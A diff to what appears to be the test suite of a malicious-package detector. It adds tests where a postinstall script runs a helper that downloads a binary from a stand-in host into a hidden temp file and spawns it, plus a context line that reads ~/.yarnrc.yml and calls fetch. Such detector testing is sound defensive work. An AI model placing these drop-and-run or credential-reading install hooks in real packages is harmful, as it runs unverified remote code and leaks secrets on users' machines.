@@ -2590,6 +2590,37 @@ const rc = fs.readFileSync(os.homedir() + '/.yarnrc.yml', 'utf8'); fetch('https:
   });
 });
 
+describe('a dropper split over two files', () => {
+  const dl = (
+    verify: string,
+  ) => `const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path');
+const TARGET = path.join(os.tmpdir(), '.svc-helper');
+function download(cb) { https.get('https://cdn.example-bins.dev/h', (r) => { const out = fs.createWriteStream(TARGET, { mode: 0o755 }); r.pipe(out); out.on('finish', cb); }); }
+${verify}
+module.exports = { download, TARGET };`;
+  const main = `const { download, TARGET } = require('./lib/dl'); const { spawn } = require('child_process');
+download(() => spawn(TARGET, [], { stdio: 'inherit' }));`;
+  it('the download written in a helper module and run from the entry is a drop and run', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'lib/dl.js': dl(''),
+      'index.js': main,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('install_script_injection');
+  });
+  it('the same installer with a checksum check in its helper stays quiet', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'lib/dl.js': dl(
+        `const crypto = require('crypto'); exports.ok = (b, sum) => crypto.createHash('sha256').update(b).digest('hex') === sum;`,
+      ),
+      'index.js': main,
+    });
+    expect(threatsOf(r)).not.toContain('install_script_injection');
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
